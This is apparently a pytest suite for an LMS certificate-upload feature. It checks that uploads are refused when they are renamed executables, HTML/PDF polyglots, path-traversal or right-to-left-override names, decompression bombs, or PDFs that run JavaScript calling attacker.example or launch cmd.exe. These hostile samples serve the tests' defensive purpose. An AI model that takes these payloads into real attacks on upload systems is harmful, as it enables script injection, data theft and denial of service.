"""External certificates: what uploads are refused, how they are stored and who may open them."""

import hashlib
import io
import random
import threading
import zlib
from datetime import UTC, date, datetime, timedelta

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from sqlalchemy import func, select

from lms.extensions import db
from lms.models import AuditEvent, Evidence

from .clock import pinned_clock  # noqa: F401  (a fixture)
from .conftest import Auth, make_test_app
from .evidence_helpers import PLAN, jpeg_bytes, pdf_bytes, png_bytes, text, upload
from .factories import make_user


@pytest.fixture
def app_overrides(tmp_path):
    path = tmp_path / "plan.toml"
    path.write_text(PLAN)
    return {"TRAINING_PLAN": str(path)}


def stored() -> int:
    return db.session.scalar(select(func.count()).select_from(Evidence))


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (pdf_bytes(), "certificate.pdf", "application/pdf"),
        (png_bytes(), "screenshot.png", "image/png"),
        (jpeg_bytes(), "photo.jpg", "image/jpeg"),
        # Recognised by content, not by name or declared type.
        (png_bytes(), "named-wrongly.pdf", "application/pdf"),
    ],
)
def test_a_good_file_is_stored_with_size_type_and_hash(client, auth, data, name, content_type):
    me = auth.login_as("learner")
    response = upload(client, data, name, content_type=content_type, number=" HO-123 ")
    assert response.status_code == 302, text(response)
    evidence = db.session.scalar(select(Evidence))
    assert evidence.user_id == me.id and evidence.status == "pending"
    assert evidence.size == len(data) and evidence.data == data
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.mime == {b"%PDF": "application/pdf", b"\x89PNG": "image/png"}.get(data[:4], "image/jpeg")
    assert evidence.certificate_date == date(2026, 1, 5) and evidence.certificate_number == "HO-123"
    assert evidence.filename == name
    assert db.session.scalar(select(AuditEvent.action).where(AuditEvent.target_id == str(evidence.id))) == "evidence.uploaded"


def polyglot() -> bytes:
    pdf = pdf_bytes()
    cut = pdf.rindex(b"%%EOF")
    return pdf[:cut] + b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf[cut:]


ATTACKS = {
    "ELF executable renamed .pdf": (b"\x7fELF\x02\x01\x01\x00" + bytes(200), "certificate.pdf", "must be a PDF, PNG or JPEG"),
    "Windows executable renamed .pdf": (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200) + b"PE\x00\x00", "certificate.pdf",
                                        "must be a PDF, PNG or JPEG"),
    "HTML renamed .pdf": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "certificate.pdf",
                          "must be a PDF, PNG or JPEG"),
    "HTML first, then a PDF": (b"<html><script>alert(1)</script></html>\n" + pdf_bytes(), "certificate.pdf",
                               "must be a PDF, PNG or JPEG"),
    "PDF polyglot with HTML": (polyglot(), "certificate.pdf", "also contains web page code"),
    "PNG with HTML appended": (png_bytes() + b"<script>alert(1)</script>", "shot.png", "web page code"),
    "empty file": (b"", "certificate.pdf", "The selected file is empty"),
    "truncated PNG": (png_bytes()[:-12], "shot.png", "incomplete or damaged"),
    "PNG with a damaged chunk": (png_bytes()[:40] + b"\x00" + png_bytes()[41:], "shot.png", "incomplete or damaged"),
    "truncated JPEG": (jpeg_bytes()[:-60], "photo.jpg", "incomplete or damaged"),
    "JPEG cut in its headers": (jpeg_bytes()[:30], "photo.jpg", "incomplete or damaged"),
    "truncated PDF": (pdf_bytes()[:-300], "certificate.pdf", "PDF is incomplete"),
    "name with folders": (pdf_bytes(), "../../etc/certificate.pdf", "must not contain folder names"),
    "name with Windows folders": (pdf_bytes(), "C:\\\\Users\\\\me\\\\certificate.pdf", "must not contain folder names"),
    "name with a control character": (pdf_bytes(), "certi\x1bficate.pdf", "must not contain control characters"),
    "name with a right-to-left override": (pdf_bytes(), "certificate\u202efdp.exe", "must not contain control characters"),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_bad_files_get_a_clear_message_and_are_never_stored(client, auth, attack):
    data, name, message = ATTACKS[attack]
    auth.login_as("learner")
    response = upload(client, data, name)
    assert response.status_code == 200
    page = text(response)
    assert "There is a problem" in page and message in page, page
    assert 'href="#file"' in response.get_data(as_text=True)  # the summary links to the field
    assert stored() == 0


def test_a_file_over_10_mb_is_refused_from_the_stream(client, auth):
    auth.login_as("learner")
    big = pdf_bytes()
    big = big[:-6] + b"%" + bytes(10 * 1024 * 1024) + big[-6:]  # just over 10 MB, under the request cap
    response = upload(client, big)
    assert "must be smaller than 10 MB" in text(response)
    assert stored() == 0


def test_an_oversize_request_is_refused_before_its_body_is_read(client, auth):
    auth.login_as("learner")

    class Counting(io.RawIOBase):
        read_so_far = 0

        def readable(self):
            return True

        def seekable(self):
            return True

        def seek(self, pos, whence=0):  # the test client asks where the stream starts
            return 0

        def readinto(self, buffer):
            n = min(len(buffer), 65536)
            buffer[:n] = b"x" * n
            Counting.read_so_far += n
            return n

    size = 50 * 1024 * 1024
    response = client.post(
        "/evidence/certificates/ho-awareness/upload",
        input_stream=Counting(),
        content_type="multipart/form-data; boundary=xyz",
        environ_overrides={"CONTENT_LENGTH": str(size)},  # the client would otherwise measure the stream
    )
    assert response.status_code == 413
    assert "must be smaller than 10 MB" in text(response)
    assert Counting.read_so_far < 10 * 1024 * 1024
    assert stored() == 0


@pytest.mark.dates
@pytest.mark.usefixtures("pinned_clock")
def test_the_certificate_date_must_not_be_in_the_future(client, auth, today):
    auth.login_as("learner")
    response = upload(client, pdf_bytes(), on=today + timedelta(days=1))
    assert "must be today or in the past" in text(response)
    assert stored() == 0
    assert upload(client, pdf_bytes(), on=today).status_code == 302  # the organisation's today, whatever the machine's


def test_an_unknown_certificate_type_is_not_found(client, auth):
    auth.login_as("learner")
    assert client.get("/evidence/certificates/nothing-like-it/upload").status_code == 404


def test_the_same_file_twice_from_one_person_is_refused(client, auth):
    auth.login_as("learner")
    data = pdf_bytes()
    assert upload(client, data).status_code == 302
    response = upload(client, data, "again.pdf")
    assert "You uploaded this file already" in text(response)
    assert stored() == 1


def test_the_same_file_from_a_second_person_is_flagged_as_possibly_shared(client, auth):
    data = pdf_bytes("Shared certificate")
    first = auth.login_as("learner", name="Ann First")
    upload(client, data)
    auth.login_as("learner", name="Bob Second")
    assert upload(client, data).status_code == 302
    rows = db.session.scalars(select(Evidence).order_by(Evidence.id)).all()
    assert [e.possibly_shared for e in rows] == [True, True]
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "evidence.possibly_shared")) is not None
    auth.login_as("lead")
    queue = text(client.get("/evidence/queue"))
    assert queue.count("Possibly shared") == 2
    review = text(client.get(f"/evidence/{rows[1].id}/review"))
    assert "This file may have been shared" in review and "Ann First" in review and first.email in review


def test_the_file_is_served_as_an_attachment_only_to_owner_leads_and_admins(client, auth):
    owner = auth.login_as("learner")
    data = png_bytes()
    upload(client, data, "shot.png")
    evidence = db.session.scalar(select(Evidence))
    url = f"/evidence/{evidence.id}/file"

    response = client.get(url)
    assert response.status_code == 200 and response.data == data
    assert response.headers["Content-Disposition"] == f'attachment; filename="certificate-{evidence.id}.png"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert response.mimetype == "image/png"

    for role, allowed in [("learner", False), ("director", False), ("lead", True), ("admin", True)]:
        auth.login_as(role)
        assert client.get(url).status_code == (200 if allowed else 404), role
    auth.login(owner)
    assert client.get(url).status_code == 200


def test_my_training_links_to_the_official_course_and_the_upload_then_shows_pending(client, auth):
    auth.login_as("learner")
    page = text(client.get("/"))
    assert "Take the course on the Home Office site" in page and "Upload your certificate" in page
    html = client.get("/").get_data(as_text=True)
    assert "https://www.example.gov.uk/prevent/awareness" in html
    assert "/evidence/certificates/ho-awareness/upload" in html
    upload(client, pdf_bytes())
    page = text(client.get("/"))
    assert "Awaiting verification" in page or "waiting to be checked" in page
    assert "See your uploaded certificate" in page


def test_the_size_limit_applies_before_the_csrf_check_reads_the_body(client, auth, app):
    app.config["WTF_CSRF_ENABLED"] = True
    auth.login_as("learner")
    response = client.post(
        "/evidence/certificates/ho-awareness/upload",
        data=b"x" * 100,
        content_type="multipart/form-data; boundary=xyz",
        environ_overrides={"CONTENT_LENGTH": str(11 * 1024 * 1024)},
    )
    assert response.status_code == 413 and "must be smaller than 10 MB" in text(response)


def _post_date(client, parts: dict[str, str]):
    return client.post(
        "/evidence/certificates/ho-awareness/upload",
        data={"file": (io.BytesIO(pdf_bytes()), "certificate.pdf", "application/pdf"),
              **{f"certificate_date-{k}": v for k, v in parts.items()}},
        content_type="multipart/form-data",
    )


@pytest.mark.parametrize(
    ("parts", "message", "box"),
    [
        ({"day": "", "month": "", "year": ""}, "Enter the date on the certificate", "day"),
        ({"day": "5", "month": "", "year": "2026"}, "Date on the certificate must include a month", "month"),
        ({"day": "", "month": "1", "year": ""}, "Date on the certificate must include a day and a year", "day"),
        ({"day": "31", "month": "2", "year": "2026"}, "Date on the certificate must be a real date", "day"),
        ({"day": "5", "month": "January", "year": "2026"}, "Date on the certificate must be a real date", "day"),
        ({"day": "5", "month": "1", "year": "26"}, "Date on the certificate must be a real date", "day"),
    ],
)
def test_the_date_boxes_say_what_is_wrong_and_link_to_the_box(client, auth, parts, message, box):
    auth.login_as("learner")
    response = _post_date(client, parts)
    assert response.status_code == 200
    page = text(response)
    assert message in page and "There is a problem" in page
    assert f'href="#certificate_date-{box}"' in response.get_data(as_text=True)
    html = response.get_data(as_text=True)
    for name, value in parts.items():  # what was typed is kept
        assert f'name="certificate_date-{name}" type="text" inputmode="numeric" value="{value}"' in html
    assert stored() == 0


def test_the_date_boxes_take_a_date_with_spaces_and_leading_zeros(client, auth):
    auth.login_as("learner")
    response = _post_date(client, {"day": " 05 ", "month": "01", "year": "2026"})
    assert response.status_code == 302
    assert db.session.scalar(select(Evidence.certificate_date)) == date(2026, 1, 5)


def test_the_upload_page_groups_the_date_boxes_under_one_legend(client, auth):
    auth.login_as("learner")
    html = client.get("/evidence/certificates/ho-awareness/upload").get_data(as_text=True)
    assert '<fieldset class="fieldset" role="group" aria-describedby="certificate_date-hint">' in html
    assert "<legend" in html and "Date on the certificate</legend>" in html
    for part, label in (("day", "Day"), ("month", "Month"), ("year", "Year")):
        assert f'<label class="label date-input-label" for="certificate_date-{part}">{label}</label>' in html


# -- PDFs that run something, or unpack to gigabytes ---------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _certificate_writer() -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(pdf_bytes()))


def pdf_with_open_javascript() -> bytes:
    writer = _certificate_writer()
    writer.add_open_action(JavaScript("app.launchURL('https://attacker.example/?c=' + this.URL);"))
    return _written(writer)


def pdf_opening_a_program() -> bytes:
    writer = _certificate_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return _written(writer)


def pdf_with_a_page_action() -> bytes:
    writer = _certificate_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): NameObject("/x")})}
    )
    return _written(writer)


def handmade_pdf(catalog_extra: bytes = b"", contents: list[bytes] | None = None) -> bytes:
    """A one-page PDF written byte by byte, with its cross-reference table."""
    streams = contents or [_stream(zlib.compress(b"BT /F1 12 Tf 72 712 Td (Certificate) Tj ET"))]
    refs = b" ".join(b"%d 0 R" % (4 + i) for i in range(len(streams)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [" + refs + b"] >>",
        *streams,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    return b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(data), filters, data)


def zeros_deflated(megabytes: int) -> bytes:
    """`megabytes` of zero bytes, deflated (about a thousandth of the size)."""
    packer = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    return b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()


UNSAFE_PDFS = {
    "JavaScript run on opening": (pdf_with_open_javascript, "contains a script (JavaScript)"),
    # The names spelt with escapes, as an attacker does to get past a search of the bytes.
    "JavaScript under escaped names": (
        lambda: handmade_pdf(b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> "),
        "contains a script (JavaScript)",
    ),
    "a program launched on opening": (pdf_opening_a_program, "tries to open another file or program"),
    "an action run when the page opens": (pdf_with_a_page_action, "actions that run by themselves"),
    "300 MB of zeros in one stream": (lambda: handmade_pdf(contents=[_stream(zeros_deflated(300))]), "unpacks to far more data"),
    "deflated twice, 200 MB": (
        lambda: handmade_pdf(contents=[_stream(zlib.compress(zeros_deflated(200), 9), b"[/FlateDecode /FlateDecode]")]),
        "unpacks to far more data",
    ),
    "two streams of 60 MB": (
        lambda: handmade_pdf(contents=[_stream(zeros_deflated(60)), _stream(zeros_deflated(60))]),
        "unpacks to far more data",
    ),
    "the start of a PDF, then garbage": (
        lambda: pdf_bytes()[:200] + b"garbage " * 100 + b"\n%%EOF\n",
        "is damaged and cannot be read",
    ),
}


@pytest.mark.parametrize("kind", list(UNSAFE_PDFS))
def test_a_pdf_that_runs_something_or_unpacks_to_gigabytes_is_refused(client, auth, kind):
    build, message = UNSAFE_PDFS[kind]
    data = build()
    assert len(data) < 1024 * 1024  # small on the wire: the size limit does not catch these
    auth.login_as("learner")
    response = upload(client, data)
    assert response.status_code == 200
    page = text(response)
    assert "There is a problem" in page and message in page, page
    assert stored() == 0


def test_an_ordinary_pdf_with_a_link_and_an_opening_page_is_accepted(client, auth):
    writer = _certificate_writer()
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.gov.uk/prevent"))
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    data = _written(writer)
    auth.login_as("learner")
    assert upload(client, data).status_code == 302
    assert upload(client, handmade_pdf(), "handmade.pdf").status_code == 302
    assert stored() == 2


# -- how much one person may upload --------------------------------------------------------------


@pytest.mark.dates
def test_twenty_uploads_an_hour_then_a_clear_message_saying_when(client, auth, app, time_machine):
    time_machine.move_to(datetime(2027, 1, 13, 14, 5, tzinfo=UTC), tick=False)
    auth.login_as("learner")
    for n in range(20):
        assert upload(client, pdf_bytes(f"Certificate {n}")).status_code == 302, n
    time_machine.shift(timedelta(minutes=30))
    response = upload(client, pdf_bytes("One too many"))
    assert response.status_code == 200
    page = text(response)
    # 14:05 UTC in January is 14:05 in London: the first of the twenty leaves the hour at 15:05.
    assert "You can upload 20 files an hour, and you have reached that. Try again after 3:05pm" in page
    assert 'href="#file"' in response.get_data(as_text=True)
    assert stored() == 20
    time_machine.shift(timedelta(minutes=31))
    assert upload(client, pdf_bytes("One too many")).status_code == 302
    assert stored() == 21


def noise_png(kilobytes: int, seed: int) -> bytes:
    """A PNG of random pixels, which does not compress: about `kilobytes` in size."""
    side = int((kilobytes * 1024 / 3) ** 0.5)
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), random.Random(seed).randbytes(side * side * 3)).save(out, "PNG")
    return out.getvalue()


def test_withdrawn_and_rejected_files_count_towards_the_stored_quota(client, auth, app):
    app.config["UPLOAD_QUOTA_MB"] = 1
    me = auth.login_as("learner")
    first, second, third = (noise_png(400, seed) for seed in (1, 2, 3))
    assert upload(client, first, "one.png").status_code == 302
    withdrawn = db.session.scalar(select(Evidence))
    assert client.post(f"/evidence/{withdrawn.id}/withdraw").status_code == 302
    assert upload(client, second, "two.png").status_code == 302
    rejected = db.session.scalar(select(Evidence).where(Evidence.filename == "two.png"))
    auth.login_as("lead")
    client.post(f"/evidence/{rejected.id}/reject", data={"reason": "Unreadable"})
    db.session.expire_all()
    assert [e.status for e in db.session.scalars(select(Evidence).order_by(Evidence.id))] == ["withdrawn", "rejected"]

    auth.login(me)
    response = upload(client, third, "three.png")
    page = text(response)
    assert "You can keep 1 MB of uploaded files, and this file would take you past that" in page
    assert "withdrawn and rejected files count too" in page
    assert stored() == 2
    assert upload(client, png_bytes(), "small.png").status_code == 302  # a small one still fits


def test_uploads_at_once_through_two_app_servers_never_pass_the_hourly_limit(database_url, tmp_path, app):
    """The limit is counted in the database: six uploads at the same moment, through two apps
    (two workers), with two allowed an hour, store exactly two."""
    app.config["UPLOADS_PER_HOUR"] = 2
    servers = [app] + [make_test_app(database_url, tmp_path / "second", TRAINING_PLAN=app.config["TRAINING_PLAN"])]
    servers[1].config["UPLOADS_PER_HOUR"] = 2
    person = make_user(categories=("staff",))
    start = threading.Barrier(6)
    statuses: list[int] = []

    def send(client, n):
        start.wait()
        statuses.append(upload(client, pdf_bytes(f"At once {n}")).status_code)

    clients = [servers[n % 2].test_client() for n in range(6)]
    for client in clients:
        Auth(client).login(person)
    threads = [threading.Thread(target=send, args=(client, n)) for n, client in enumerate(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(statuses) == [200, 200, 200, 200, 302, 302]
    db.session.expire_all()
    assert stored() == 2
    with servers[1].app_context():
        db.engine.dispose()
